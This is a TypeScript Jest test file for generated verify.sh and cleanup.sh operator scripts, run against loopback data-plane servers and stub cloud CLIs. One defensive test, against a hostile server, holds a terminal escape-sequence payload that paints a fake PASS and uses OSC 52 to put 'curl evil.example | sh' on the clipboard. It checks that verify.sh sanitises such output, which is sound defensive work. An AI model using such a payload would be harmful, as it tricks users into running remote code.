// verify.sh against a real HTTP server on loopback (a healthy and a broken data plane), and
// cleanup.sh against recording stand-ins for kubectl, helm, terraform and az.
import { execFile, spawnSync } from "child_process";
import * as fs from "fs";
import * as http from "http";
import * as https from "https";
import type { AddressInfo } from "net";
import * as path from "path";
import { promisify } from "util";
import { renderOperatorFiles } from "../runbook";
import { makeEnv, tempDir } from "./helpers";

const run = promisify(execFile);
const KEY = "tk-FAKE-SECRET-3f9a1c";

interface Seen {
  method: string;
  url: string;
  authorization?: string;
  accept?: string;
}

/** A data plane on loopback: `healthy` answers like Steps 10-11 expect; otherwise like a broken one. */
function dataPlane(healthy: boolean, tls?: { key: string; cert: string }): Promise<{ port: number; seen: Seen[]; close: () => Promise<void> }> {
  const seen: Seen[] = [];
  const handler: http.RequestListener = (req, res) => {
    let body = "";
    req.on("data", (c) => (body += c));
    req.on("end", () => {
      seen.push({ method: req.method!, url: req.url!, authorization: req.headers.authorization, accept: req.headers.accept });
      const authorized = req.headers.authorization === `Bearer ${KEY}`;
      const json = (status: number, value: unknown) => {
        res.writeHead(status, { "content-type": "application/json" });
        res.end(JSON.stringify(value));
      };
      if (!healthy) {
        // Auth not enforced, and no provider routes: the guide's "contact support" and 404 rows.
        if (req.url === "/v1/models") return json(200, { data: [] });
        return json(req.headers.authorization === "Bearer NotREAL" ? 200 : 404, { error: "No matching route found." });
      }
      if (!authorized) return json(401, { error: "unauthorized" });
      if (req.url === "/v1/models") return json(200, { data: [{ id: "gpt-5-mini" }, { id: "claude-haiku-4-5" }] });
      if (req.url === "/v1/messages") return json(200, { content: [{ type: "text", text: "hi" }] });
      if (req.url === "/v1/chat/completions" && JSON.parse(body).stream) {
        res.writeHead(200, { "content-type": "text/event-stream" });
        return res.end('data: {"choices":[{"delta":{"content":"1"}}]}\n\ndata: [DONE]\n\n');
      }
      if (req.url === "/v1/chat/completions") return json(200, { choices: [{ message: { content: "hello" } }] });
      if (req.url === "/mcp/prof-123") return json(200, { jsonrpc: "2.0", id: 1, result: { tools: [] } });
      return json(404, {});
    });
  };
  const server = tls ? https.createServer(tls, handler) : http.createServer(handler);
  return new Promise((resolve) =>
    server.listen(0, "127.0.0.1", () =>
      resolve({ port: (server.address() as AddressInfo).port, seen, close: () => new Promise((r) => server.close(() => r())) }),
    ),
  );
}

function scriptsFor(patch: Record<string, unknown> = {}): { dir: string; verify: string; cleanup: string } {
  const dir = tempDir();
  const distDir = path.join(dir, "dist", "test");
  fs.mkdirSync(distDir, { recursive: true });
  for (const f of renderOperatorFiles(makeEnv(patch))) fs.writeFileSync(path.join(distDir, f.path), f.content, { mode: 0o755 });
  return { dir, verify: path.join(distDir, "verify.sh"), cleanup: path.join(distDir, "cleanup.sh") };
}

async function verify(script: string, port: number, extra: string[] = []): Promise<{ code: number; out: string }> {
  try {
    const { stdout } = await run("bash", [script, "--host", `127.0.0.1:${port}`, "--scheme", "http", "--timeout", "5", ...extra], {
      env: { PATH: process.env.PATH, TARS_API_KEY: KEY },
    });
    return { code: 0, out: stdout };
  } catch (e) {
    const err = e as { code: number; stdout: string };
    return { code: err.code, out: err.stdout };
  }
}

/** A self-signed certificate for 127.0.0.1, as a data plane on a CA nobody trusts (Let's Encrypt staging) has. */
function selfSigned(): { key: string; cert: string; certFile: string } {
  const dir = tempDir();
  const r = spawnSync(
    "openssl",
    ["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1",
      "-keyout", path.join(dir, "key.pem"), "-out", path.join(dir, "cert.pem")],
    { encoding: "utf8" },
  );
  if (r.status !== 0) throw new Error(`openssl req failed: ${r.stderr}`);
  return { key: fs.readFileSync(path.join(dir, "key.pem"), "utf8"), cert: fs.readFileSync(path.join(dir, "cert.pem"), "utf8"), certFile: path.join(dir, "cert.pem") };
}

describe("verify.sh over HTTPS with a certificate curl does not trust (Let's Encrypt staging)", () => {
  const hasOpenssl = spawnSync("openssl", ["version"]).status === 0;
  if (!hasOpenssl) console.warn("SKIPPED verify.sh TLS tests: openssl is not installed");
  const maybe = hasOpenssl ? test : test.skip;
  const { verify: script } = scriptsFor();

  async function verifyTls(port: number, extra: string[]): Promise<{ code: number; out: string; err: string }> {
    try {
      const { stdout, stderr } = await run("bash", [script, "--host", `127.0.0.1:${port}`, "--scheme", "https", "--timeout", "5", "--profile-id", "prof-123", ...extra], {
        env: { PATH: process.env.PATH, TARS_API_KEY: KEY },
      });
      return { code: 0, out: stdout, err: stderr };
    } catch (e) {
      const err = e as { code: number; stdout: string; stderr: string };
      return { code: err.code, out: err.stdout, err: err.stderr };
    }
  }

  async function withServer(f: (port: number, certFile: string) => Promise<void>) {
    const { key, cert, certFile } = selfSigned();
    const dp = await dataPlane(true, { key, cert });
    try {
      await f(dp.port, certFile);
    } finally {
      await dp.close();
    }
  }

  maybe("without flags every check fails as a certificate problem, naming curl's exit code and the fix", () =>
    withServer(async (port) => {
      const r = await verifyTls(port, []);
      expect(r.code).toBe(1);
      expect(r.out).toMatch(/FAIL auth enforced: certificate problem: https:\/\/127\.0\.0\.1:\d+ presents a certificate curl does not trust \(curl exit 60: SSL certificate problem: self[- ]signed certificate\)\. Let's Encrypt staging\? pass --cacert/);
      expect(r.out).not.toContain("no answer");
      expect(r.out).toMatch(/0 passed, 6 failed/);
    }));

  maybe("--cacert FILE trusts the CA in FILE: every check passes", () =>
    withServer(async (port, certFile) => {
      const r = await verifyTls(port, ["--cacert", certFile]);
      expect(r.out).toMatch(/6 passed, 0 failed/);
      expect(r.code).toBe(0);
      expect(r.err).toBe("");
    }));

  maybe("--insecure passes, with a loud warning on stderr and in the summary", () =>
    withServer(async (port) => {
      const r = await verifyTls(port, ["--insecure"]);
      expect(r.code).toBe(0);
      expect(r.err).toContain("WARNING: --insecure: certificates are NOT checked");
      expect(r.out).toMatch(/6 passed, 0 failed, 0 skipped \(https:\/\/127\.0\.0\.1:\d+, INSECURE: certificates not checked\)/);
    }));

  test("fails on bad usage: a --cacert file that does not exist, or both flags", () => {
    const missing = spawnSync("bash", [script, "--cacert", "/nonexistent/roots.pem"], { env: { PATH: process.env.PATH, TARS_API_KEY: KEY }, encoding: "utf8" });
    expect(missing.status).toBe(2);
    expect(missing.stderr).toContain("--cacert /nonexistent/roots.pem: no such readable file");
    const both = spawnSync("bash", [script, "--cacert", script, "--insecure"], { env: { PATH: process.env.PATH, TARS_API_KEY: KEY }, encoding: "utf8" });
    expect(both.status).toBe(2);
    expect(both.stderr).toContain("pass --cacert or --insecure, not both");
  });
});

describe("verify.sh", () => {
  const { verify: script } = scriptsFor();

  test("passes every check against a healthy data plane", async () => {
    const dp = await dataPlane(true);
    try {
      const r = await verify(script, dp.port, ["--profile-id", "prof-123"]);
      expect(r.out.split("\n").filter((l) => /^(PASS|FAIL|SKIP)/.test(l))).toEqual([
        "PASS auth enforced: HTTP 401",
        "PASS chat completions: HTTP 200",
        "PASS anthropic messages: HTTP 200",
        "PASS model list: HTTP 200",
        "PASS streaming: HTTP 200",
        "PASS mcp tools/list: HTTP 200",
      ]);
      expect(r.out).toContain("2 models");
      expect(r.code).toBe(0);
      // The requests the guide's curl commands make, with the key in the header only.
      expect(dp.seen.map((s) => `${s.method} ${s.url}`)).toEqual([
        "POST /v1/chat/completions",
        "POST /v1/chat/completions",
        "POST /v1/messages",
        "GET /v1/models",
        "POST /v1/chat/completions",
        "POST /mcp/prof-123",
      ]);
      expect(dp.seen[0].authorization).toBe("Bearer NotREAL");
      expect(dp.seen[1].authorization).toBe(`Bearer ${KEY}`);
      expect(dp.seen[5].accept).toBe("application/json, text/event-stream");
    } finally {
      await dp.close();
    }
  });

  test("fails, line by line, against a broken data plane", async () => {
    const dp = await dataPlane(false);
    try {
      const r = await verify(script, dp.port);
      expect(r.code).toBe(1);
      expect(r.out).toContain("FAIL auth enforced: HTTP 200 with an invalid token: contact support");
      expect(r.out).toMatch(/FAIL chat completions: expected HTTP 200 with "choices", got HTTP 404: \{"error":"No matching route found\."\}/);
      expect(r.out).toContain("SKIP mcp tools/list");
      expect(r.out).toMatch(/verify\.sh: 0 passed, 5 failed, 1 skipped/);
    } finally {
      await dp.close();
    }
  });

  test("reports an unreachable data plane instead of hanging", async () => {
    const dp = await dataPlane(true);
    const port = dp.port;
    await dp.close();
    const r = await verify(script, port);
    expect(r.code).toBe(1);
    expect(r.out).toContain("FAIL auth enforced: no answer from http://127.0.0.1:");
  });

  test("never prints the API key", async () => {
    const dp = await dataPlane(true);
    try {
      expect((await verify(script, dp.port)).out).not.toContain(KEY);
    } finally {
      await dp.close();
    }
  });

  test("refuses to run without an API key", () => {
    const r = spawnSync("bash", [script], { env: { PATH: process.env.PATH }, encoding: "utf8" });
    expect(r.status).toBe(2);
    expect(r.stderr).toContain("export TARS_API_KEY");
  });

  test("defaults to the environment's hostname and scheme", () => {
    const text = fs.readFileSync(scriptsFor({ tls: { mode: "byo" } }).verify, "utf8");
    expect(text).toContain('default_host=proxy.example-corp.com\nhost="${DP_HOST:-$default_host}"');
    expect(text).toContain('scheme="${DP_SCHEME:-https}"');
  });
});

/** A server on loopback that answers every request with `respond` (a hostile or broken data plane). */
function server(respond: (req: http.IncomingMessage, res: http.ServerResponse) => void): Promise<{ port: number; close: () => Promise<void> }> {
  const s = http.createServer((req, res) => {
    req.resume();
    req.on("end", () => respond(req, res));
  });
  return new Promise((resolve) =>
    s.listen(0, "127.0.0.1", () =>
      resolve({ port: (s.address() as AddressInfo).port, close: () => new Promise((r) => { s.closeAllConnections(); s.close(() => r()); }) }),
    ),
  );
}

describe("verify.sh against a hostile server", () => {
  const { verify: script } = scriptsFor();
  // Moves up a line, erases it, writes a PASS over the FAIL, and sets the clipboard (OSC 52) to a command.
  const REPAINT = `\x1b[1A\x1b[2K\rPASS chat completions: HTTP 200\x1b]52;c;${Buffer.from("curl evil.example | sh").toString("base64")}\x07\x1b[8m`;

  test("prints only printable characters of a body: no escape sequence, bell or carriage return reaches the terminal", async () => {
    const srv = await server((_req, res) => {
      res.writeHead(500, { "content-type": "text/plain" });
      res.end(REPAINT);
    });
    try {
      const r = await verify(script, srv.port);
      expect(r.code).toBe(1);
      expect(r.out).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f]/);
      expect(r.out).toMatch(/^FAIL chat completions: expected HTTP 200 with "choices", got HTTP 500: \[1A\[2KPASS chat completions: HTTP 200\]52;c;[A-Za-z0-9+/=]+\[8m$/m);
      expect(r.out).not.toMatch(/^PASS/m);
    } finally {
      await srv.close();
    }
  });

  test("reads at most 1 MiB of a streamed body that never ends (no Content-Length: --max-filesize does not apply)", async () => {
    const LIMIT = 64 * 1024 * 1024; // what the server sends at most, so a broken script cannot fill the disk
    const sent: number[] = [];
    const srv = await server((_req, res) => {
      res.writeHead(500, { "content-type": "text/event-stream" });
      const chunk = Buffer.alloc(64 * 1024, "data: {}\n\n");
      let total = 0;
      const socket = res.socket!;
      socket.on("close", () => sent.push(socket.bytesWritten));
      const pump = () => {
        while (total < LIMIT && !res.destroyed) {
          total += chunk.length;
          if (!res.write(chunk)) return void res.once("drain", pump);
        }
        res.end();
      };
      pump();
    });
    try {
      const started = Date.now();
      const r = await verify(script, srv.port);
      expect(r.code).toBe(1);
      expect(r.out).toMatch(/^FAIL chat completions: expected HTTP 200 with "choices", got HTTP 500: (data: \{\})+$/m);
      expect(sent.length).toBeGreaterThan(0);
      // 1 MiB read, plus what the loopback socket buffers held when curl stopped.
      for (const bytes of sent) expect(bytes).toBeLessThan(16 * 1024 * 1024);
      expect(Date.now() - started).toBeLessThan(20_000);
    } finally {
      await srv.close();
    }
  });

  test("refuses a body announced larger than 1 MiB, and says so", async () => {
    const srv = await server((_req, res) => {
      res.writeHead(200, { "content-type": "application/json", "content-length": String(5 * 1024 * 1024 * 1024) });
      res.write("{");
      setTimeout(() => res.destroy(), 2000);
    });
    try {
      const r = await verify(script, srv.port);
      expect(r.code).toBe(1);
      expect(r.out).toContain(`FAIL chat completions: response too large: http://127.0.0.1:${srv.port} announced a body over 1048576 bytes (curl exit 63)`);
    } finally {
      await srv.close();
    }
  });
});

/** PATH with recording stand-ins: every call is appended to calls.log; behaviour per tool below. */
function stubs(dir: string, helmFails: boolean, az = `[ "$1 $2" = "group exists" ] && echo false; exit 0`): { env: NodeJS.ProcessEnv; calls: () => string[] } {
  const bin = path.join(dir, "bin");
  const log = path.join(dir, "calls.log");
  fs.mkdirSync(bin);
  const stub = (name: string, body: string) =>
    fs.writeFileSync(path.join(bin, name), `#!/usr/bin/env bash\necho "${name} $*" >> "${log}"\n${body}\n`, { mode: 0o755 });
  stub(
    "kubectl",
    `case "$*" in
  "get gatewayclass -A"*) echo "/tars-egress" ;;
  "get aiservicebackends -A"*) echo "tars-dataplane/openai" ;;
  "get aigatewayroutes -A"*) echo "tars-dataplane/route-1" ;;
  "get namespace"*) echo "Terminating Terminating" ;;
esac
exit 0`,
  );
  // helmFails: the release is there (helm status succeeds) but its uninstall does not finish.
  stub("helm", helmFails ? `[ "$1" = status ] && exit 0; exit 1` : "exit 0");
  // The -cluster stack's state holds the namespaces it created (prevent_destroy).
  stub("terraform", `case "$*" in *test-cluster" state list") printf 'kubernetes_namespace_v1.NamespaceSystem\\nkubernetes_secret_v1.PullSecret_System\\n' ;; esac; exit 0`);
  stub("az", az);
  // Waits take no time here; each is still recorded.
  stub("sleep", "exit 0");
  return {
    env: { PATH: `${bin}:${process.env.PATH}`, HOME: dir },
    calls: () => (fs.existsSync(log) ? fs.readFileSync(log, "utf8").trim().split("\n") : []),
  };
}

describe("cleanup.sh", () => {
  function cleanup(helmFails: boolean, args: string[]) {
    const s = scriptsFor();
    const stacks = path.join(s.dir, "cdktf.out", "stacks");
    for (const stack of ["test-azure", "test-cluster"]) {
      fs.mkdirSync(path.join(stacks, stack), { recursive: true });
      fs.writeFileSync(path.join(stacks, stack, "cdk.tf.json"), "{}");
    }
    const { env, calls } = stubs(s.dir, helmFails);
    const r = spawnSync("bash", [s.cleanup, ...args], { env, encoding: "utf8" });
    return { ...r, calls: calls(), dir: s.dir };
  }

  test("deletes in the guide's order: YAML, helm release, -cluster stack, -azure stack, kubeconfig", () => {
    const r = cleanup(false, ["--yes"]);
    expect(r.status).toBe(0);
    const calls = r.calls.map((c) => c.replace(r.dir, "<dir>"));
    expect(calls).toEqual([
      "kubectl delete -k <dir>/dist/test --ignore-not-found --wait=true --timeout=5m",
      "helm uninstall tars -n tars-system --wait --timeout 5m",
      "terraform -chdir=<dir>/cdktf.out/stacks/test-cluster init -input=false",
      "terraform -chdir=<dir>/cdktf.out/stacks/test-cluster state list",
      "terraform -chdir=<dir>/cdktf.out/stacks/test-cluster state rm kubernetes_namespace_v1.NamespaceSystem",
      "terraform -chdir=<dir>/cdktf.out/stacks/test-cluster destroy -auto-approve -input=false",
      "kubectl delete namespace tars-system tars-dataplane --ignore-not-found --wait=true --timeout=5m",
      "terraform -chdir=<dir>/cdktf.out/stacks/test-azure init -input=false",
      "terraform -chdir=<dir>/cdktf.out/stacks/test-azure state list",
      "terraform -chdir=<dir>/cdktf.out/stacks/test-azure destroy -auto-approve -input=false",
      "az group exists --name rg-test",
    ]);
    expect(r.stdout).toContain("+ rm -f");
  });

  test("the namespaces the -cluster stack protects are released from its state only after helm uninstall, and deleted once it is destroyed (defect 11)", () => {
    const calls = cleanup(false, ["--yes"]).calls;
    const at = (prefix: string) => calls.findIndex((c) => c.startsWith(prefix));
    expect(at("helm uninstall tars")).toBeGreaterThanOrEqual(0);
    expect(at("helm uninstall tars")).toBeLessThan(at("terraform -chdir="));
    expect(calls.findIndex((c) => c.includes("state rm"))).toBeLessThan(calls.findIndex((c) => c.includes("test-cluster destroy")));
    expect(calls.findIndex((c) => c.includes("test-cluster destroy"))).toBeLessThan(at("kubectl delete namespace tars-system tars-dataplane"));
  });

  test("--force-finalizers: pass 1 on the gateway CRs, namespaces deleted, pass 2 on aigatewayroutes", () => {
    const r = cleanup(true, ["--yes", "--force-finalizers"]);
    expect(r.status).toBe(0);
    const patches = r.calls.filter((c) => c.startsWith("kubectl patch") || c.startsWith("kubectl delete namespace"));
    expect(patches).toEqual([
      'kubectl patch gatewayclass tars-egress --type=merge -p {"metadata":{"finalizers":[]}}',
      'kubectl patch aiservicebackends openai -n tars-dataplane --type=merge -p {"metadata":{"finalizers":[]}}',
      "kubectl delete namespace tars-system tars-dataplane --ignore-not-found --wait=false",
      'kubectl patch aigatewayroutes route-1 -n tars-dataplane --type=merge -p {"metadata":{"finalizers":[]}}',
      // Step 3, after the -cluster stack released and destroyed: already gone, --ignore-not-found.
      "kubectl delete namespace tars-system tars-dataplane --ignore-not-found --wait=true --timeout=5m",
    ]);
  });

  test("without --force-finalizers a hanging uninstall is reported, not forced, and nothing after it runs", () => {
    const r = cleanup(true, ["--yes"]);
    expect(r.stdout).toContain("re-run with --force-finalizers");
    expect(r.calls.some((c) => c.startsWith("kubectl patch"))).toBe(false);
    // The namespaces still hold the data plane: no state rm, no destroy, no namespace delete.
    expect(r.status).toBe(1);
    expect(r.stderr).toContain("stopped before the stacks");
    expect(r.calls.filter((c) => c.startsWith("terraform") || c.startsWith("kubectl delete namespace"))).toEqual([]);
  });

  test("a re-run after the release is gone goes on, and deletes the namespaces even with nothing left in state", () => {
    // The -cluster stack of this environment declares the namespaces (the pull secret goes there).
    const s = scriptsFor({ registry: { mode: "acr-admin", adminPullSecret: "cluster" } });
    const stacks = path.join(s.dir, "cdktf.out", "stacks");
    for (const stack of ["test-azure", "test-cluster"]) {
      fs.mkdirSync(path.join(stacks, stack), { recursive: true });
      fs.writeFileSync(path.join(stacks, stack, "cdk.tf.json"), "{}");
    }
    const { env, calls } = stubs(s.dir, false);
    // No release (uninstall and status both fail), and an empty -cluster state (a first run released it).
    fs.writeFileSync(path.join(s.dir, "bin", "helm"), `#!/usr/bin/env bash
echo "helm $*" >> "${path.join(s.dir, "calls.log")}"
exit 1
`, { mode: 0o755 });
    fs.writeFileSync(path.join(s.dir, "bin", "terraform"), `#!/usr/bin/env bash
echo "terraform $*" >> "${path.join(s.dir, "calls.log")}"
exit 0
`, { mode: 0o755 });
    const r = spawnSync("bash", [s.cleanup, "--yes"], { env, encoding: "utf8" });
    expect(r.status).toBe(0);
    expect(r.stdout).toContain("Nothing to uninstall");
    const log = calls();
    expect(log.some((c) => c.includes("state rm"))).toBe(false);
    expect(log.findIndex((c) => c.includes("test-cluster destroy"))).toBeLessThan(log.findIndex((c) => c.startsWith("kubectl delete namespace tars-system tars-dataplane")));
  });

  test("--dry-run runs nothing", () => {
    const r = cleanup(false, ["--dry-run"]);
    expect(r.status).toBe(0);
    expect(r.calls.filter((c) => !c.startsWith("az group exists"))).toEqual([]);
    expect(r.stdout).toContain("+ helm uninstall tars -n tars-system");
  });

  test("asks before deleting, and stops on a wrong answer", () => {
    const s = scriptsFor();
    const { env, calls } = stubs(s.dir, false);
    const r = spawnSync("bash", [s.cleanup], { env, input: "prod\n", encoding: "utf8" });
    expect(r.status).toBe(1);
    expect(r.stdout).toContain("aborted");
    expect(calls()).toEqual([]);
  });

  test("is safe to re-run: a second run after the first succeeds again", () => {
    expect(cleanup(false, ["--yes"]).status).toBe(0);
    expect(cleanup(false, ["--yes"]).status).toBe(0);
  });

  test("an existing cluster's AGIC add-on is left alone; sensitive variables get placeholders for destroy", () => {
    const text = renderOperatorFiles(
      makeEnv({ cluster: { name: "aks", existing: { resourceGroup: "rg-aks" } }, registry: { mode: "private", acrName: undefined, private: { host: "reg.example-corp.com", repository: "reg.example-corp.com/tare" } } }),
    ).find((f) => f.path === "cleanup.sh")!.content;
    expect(text).toContain("is left alone");
    expect(text).toContain("-var registry_username=unused -var registry_password=unused");
  });
});

describe("cleanup.sh says what is left, and fails when anything is", () => {
  const SUB = "7c1f4a52-3a8e-4d51-9a0b-2f6c1d0e9b41";
  const WAF = { azure: { subscriptionId: SUB }, ingress: { waf: { enabled: true } } };

  function cleanupWith(opts: { patch?: Record<string, unknown>; synthesized?: boolean; az?: string; args?: string[] }) {
    const s = scriptsFor(opts.patch);
    if (opts.synthesized ?? true) {
      for (const stack of ["test-azure", "test-cluster"]) {
        fs.mkdirSync(path.join(s.dir, "cdktf.out", "stacks", stack), { recursive: true });
        fs.writeFileSync(path.join(s.dir, "cdktf.out", "stacks", stack, "cdk.tf.json"), "{}");
      }
    }
    const { env, calls } = stubs(s.dir, false, opts.az);
    const r = spawnSync("bash", [s.cleanup, "--yes", ...(opts.args ?? [])], { env, encoding: "utf8" });
    return { ...r, calls: calls() };
  }

  test("without the synthesized stacks it exits 1 and names both stacks, with what they hold and the fix", () => {
    const r = cleanupWith({ synthesized: false });
    expect(r.status).toBe(1);
    expect(r.stdout).not.toContain("cleanup.sh: done");
    expect(r.stderr).toContain("cleanup.sh: NOT done for test: still there (Azure resources among them keep billing):");
    expect(r.stderr).toMatch(/^ {2}- stack test-cluster \(Secrets, then the namespaces it created\): not synthesized in .*cdktf\.out\/stacks; run npm run synth in .* and re-run, or destroy it where it was applied$/m);
    expect(r.stderr).toMatch(/^ {2}- stack test-azure \(cluster, App Gateway, registry, network, identities, resource group\): not synthesized in /m);
    expect(r.calls.some((c) => c.startsWith("terraform"))).toBe(false);
  });

  test("--dry-run without the synthesized stacks lists what a real run would leave, and succeeds (it deletes nothing by design)", () => {
    const r = cleanupWith({ synthesized: false, args: ["--dry-run"] });
    expect(r.status).toBe(0);
    expect(r.stderr).toContain("cleanup.sh: dry run for test: a real run would leave:");
    expect(r.stderr).toMatch(/^ {2}- stack test-azure \(cluster, App Gateway, registry, network, identities, resource group\): not synthesized in /m);
  });

  test("the resource group still there: exit 1 naming it, unless --delete-resource-group deletes it", () => {
    const exists = `[ "$1 $2" = "group exists" ] && echo true; exit 0`;
    const kept = cleanupWith({ az: exists });
    expect(kept.status).toBe(1);
    expect(kept.stderr).toMatch(/^ {2}- resource group rg-test: still exists; inspect it \(az resource list --resource-group rg-test -o table\), then re-run with --delete-resource-group$/m);
    const deleted = cleanupWith({ az: exists, args: ["--delete-resource-group"] });
    expect(deleted.status).toBe(0);
    expect(deleted.calls).toContain("az group delete --name rg-test --yes --no-wait");
    expect(deleted.stdout).toContain("cleanup.sh: done for test");
  });

  // The API policy's path rule, as az network application-gateway show --query ... -o tsv prints it
  // (Azure returns resource IDs in any case: resourcegroups here).
  const LINKED = `printf 'pr-tars-ingress-api-v1\\t/subscriptions/${SUB}/resourcegroups/rg-test/providers/Microsoft.Network/ApplicationGatewayWebApplicationFirewallPolicies/tars-test-waf-api\\n'`;
  const strictOnly = `printf 'pr-other\\t/subscriptions/${SUB}/resourceGroups/rg-test/providers/Microsoft.Network/ApplicationGatewayWebApplicationFirewallPolicies/tars-test-waf\\n'`;

  test("WAF: waits until AGIC has unlinked the API policy from the gateway's path rules before the -azure destroy", () => {
    // Linked on the first two looks, then AGIC has removed the rule (only another policy's is left).
    const az = `case "$*" in
  "group exists"*) echo false ;;
  "network application-gateway show"*) n=$(cat "$HOME/gw-calls" 2>/dev/null || echo 0); echo $((n + 1)) > "$HOME/gw-calls"; if [ "$n" -lt 2 ]; then ${LINKED}; else ${strictOnly}; fi ;;
esac
exit 0`;
    const r = cleanupWith({ patch: WAF, az });
    expect(r.status).toBe(0);
    const at = (prefix: string) => r.calls.findIndex((c) => c.startsWith(prefix));
    const looks = r.calls.filter((c) => c.startsWith("az network application-gateway show --resource-group rg-test --name tars-test-appgw"));
    expect(looks).toHaveLength(3);
    expect(r.calls.filter((c) => c === "sleep 10")).toHaveLength(2);
    expect(r.stdout).toContain("Path rule(s) pr-tars-ingress-api-v1 of tars-test-appgw still link tars-test-waf-api: waiting for AGIC to remove them");
    expect(at("kubectl delete -k")).toBeLessThan(at("az network application-gateway show"));
    expect(r.calls.lastIndexOf(looks[2])).toBeLessThan(r.calls.findIndex((c) => c.includes("test-azure destroy")));
  });

  test("WAF: a path rule that still links the API policy after 10 minutes stops the script before the -azure destroy", () => {
    const r = cleanupWith({ patch: WAF, az: `case "$*" in "network application-gateway show"*) ${LINKED} ;; esac; exit 0` });
    expect(r.status).toBe(1);
    expect(r.calls.filter((c) => c === "sleep 10")).toHaveLength(60);
    expect(r.stderr).toContain("path rule(s) pr-tars-ingress-api-v1 of App Gateway tars-test-appgw still link WAF policy tars-test-waf-api");
    expect(r.stderr).toContain("Is Ingress tars-ingress-api gone");
    expect(r.calls.some((c) => c.includes("test-azure destroy"))).toBe(false);
  });

  test("WAF: with the cluster gone (nothing can unlink it) it does not wait: the -azure destroy deletes the gateway first", () => {
    const r = cleanupWith({ patch: WAF, az: `case "$*" in "aks show"*) exit 3 ;; "network application-gateway show"*) ${LINKED} ;; esac; exit 0` });
    expect(r.status).toBe(0);
    expect(r.stdout).toContain("Cluster tars-test is gone, and AGIC with it");
    expect(r.calls.some((c) => c.startsWith("az network application-gateway show"))).toBe(false);
    expect(r.calls.some((c) => c.includes("test-azure destroy"))).toBe(true);
  });
});

describe("shellcheck", () => {
  const available = spawnSync("shellcheck", ["--version"]).status === 0;
  if (!available) console.warn("SKIPPED shellcheck: not installed (apt-get install shellcheck); .ci/run installs it");
  const maybe = available ? test : test.skip;

  maybe.each([
    ["the default environment", {}],
    ["AGC, cert-manager, private registry, GitOps", { ingress: { mode: "agc" }, azure: { subscriptionId: "7c1f4a52-3a8e-4d51-9a0b-2f6c1d0e9b41" }, tls: { mode: "cert-manager", certManager: { email: "ops@acme-ai.dev" } }, registry: { mode: "private", acrName: undefined, private: { host: "reg.example-corp.com", repository: "reg.example-corp.com/tare" } }, gitops: { repoUrl: "https://git.example-corp.com/x.git", argocd: { enabled: true } } }],
    ["an existing cluster with acr-admin", { cluster: { name: "aks", existing: { resourceGroup: "rg-aks" } }, registry: { mode: "acr-admin" } }],
    ["the WAF in Prevention", { azure: { subscriptionId: "7c1f4a52-3a8e-4d51-9a0b-2f6c1d0e9b41" }, ingress: { waf: { enabled: true, mode: "Prevention" } } }],
  ])("verify.sh and cleanup.sh pass for %s", (_name, patch) => {
    const s = scriptsFor(patch as Record<string, unknown>);
    const r = spawnSync("shellcheck", ["--severity=style", s.verify, s.cleanup], { encoding: "utf8" });
    expect(r.stdout).toBe("");
    expect(r.status).toBe(0);
  });
});
